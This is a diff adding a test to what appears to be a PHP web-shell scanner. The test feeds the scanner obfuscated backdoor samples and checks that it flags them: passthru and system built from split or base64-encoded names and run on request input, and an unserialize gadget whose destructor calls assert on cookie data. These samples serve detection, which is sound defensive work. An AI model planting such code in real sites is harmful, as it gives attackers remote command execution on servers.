@@ -1098,3 +1098,21 @@ def test_legacy_counter_writing_a_text_file_per_page(eng):
     # the same write under a name the client ends itself is still reported
     v = eng.analyse(src.replace(b'$page.txt', b'$page'), '/var/www/html/counter.php')
     assert 'php.write.request_path' in rules(v), v
+
+
+def test_callbacks_of_callbacks_base64_names_and_unserialize_gadgets(eng):
+    v = eng.analyse(b"<?php\nregister_shutdown_function('array_map', 'pass' . 'thru', "
+                    b"[base64_decode($_SERVER['HTTP_X_WARM'])]);\n", '/var/www/html/config.php')
+    assert v.suspicious and 'php.callback.dangerous_name' in rules(v), v
+    v = eng.analyse(b"<?php\nclass R { private $t = ['a' => 'c3lzdGVt']; }\n"
+                    b"$f = base64_decode('c3lzdGVt');\n$g = $_GET['x'];\necho $f($g);\n", '/var/www/html/r.php')
+    assert v.suspicious and 'php.obfuscation.hidden_function' in rules(v), v
+    src = (b"<?php\nfinal class CacheEntry {\n  public $m = '';\n"
+           b"  public function __destruct() { $f = 'as' . 'sert'; $f($this->m); }\n}\n"
+           b"$o = @unserialize(base64_decode($_COOKIE['state']));\n")
+    v = eng.analyse(src, '/var/www/html/vendor/composer/autoload_real.php')
+    assert v.suspicious and 'php.code.request_input' in rules(v), v
+    # near-miss: options unserialized from the database, a __toString that formats
+    near = (b"<?php\nclass Money { public $v; function __toString() { return number_format($this->v, 2); } }\n"
+            b"$opts = unserialize(get_option('my_opts'));\n$cb = array_map('intval', (array) $_GET['ids']);\n")
+    assert not eng.analyse(near, '/var/www/html/m.php').suspicious
